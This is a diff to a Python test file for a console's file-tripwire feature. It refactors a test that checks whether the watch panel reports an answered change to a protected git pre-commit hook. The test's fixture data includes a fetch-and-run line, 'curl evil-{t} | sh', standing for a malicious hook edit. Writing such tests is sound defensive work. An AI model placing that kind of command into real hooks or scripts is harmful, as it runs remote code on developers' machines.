@@ -14,6 +14,7 @@ import pytest
 from support.daemon import running_daemon, wait_for, workspace
 from support.tui import Clock, foreign_controls, frame, make_app, screen_text, until
 
+from console.protocol.requests import WatchDiff
 from console.sessions.cgroups import pid_frozen
 from console.tui.model.watch_model import TripwireEntry
 from console.tui.screens.prompts import ConfirmPrompt, OptionPrompt
@@ -285,18 +286,24 @@ async def test_a_paused_pane_says_so_refuses_input_and_the_list_resumes_it(env, 
             # Finding 4: after the answer, the panel does not call the hook "the same as its
             # baseline" as if nothing happened: it shows the change that was answered.
             with d.operator() as op:
-                answer = op.call("watch.diff", {"workspace_root": str(ws), "path": ".git/hooks/pre-commit"})
-            assert answer["diff"] == "" and f"+curl evil-{t} | sh" in answer["accepted"]["diff"]
+                answer = op.request(WatchDiff(workspace_root=str(ws), path=".git/hooks/pre-commit"))
+            accepted = answer.accepted
+            assert accepted is not None and accepted.diff is not None
+            assert answer.diff == "" and f"+curl evil-{t} | sh" in accepted.diff
+            from support.items import watch_entry
+
             from console.tui.render.present import PLAIN
             from console.tui.render.watch_text import event_detail
 
-            event = {
-                "path": ".git/hooks/pre-commit",
-                "workspace_root": str(ws),
-                "protected": True,
-                "kind": "modified",
-            }
-            shown = event_detail(event, PLAIN, diff="", accepted=answer["accepted"], now=0).plain
+            event = watch_entry(
+                {
+                    "path": ".git/hooks/pre-commit",
+                    "workspace_root": str(ws),
+                    "protected": ".git/hooks/**",
+                    "kind": "modified",
+                }
+            )
+            shown = event_detail(event, PLAIN, diff="", accepted=accepted, now=0).plain
             assert "same as its baseline" not in shown
             assert "the change you answered" in shown and f"+curl evil-{t} | sh" in shown
         finally:
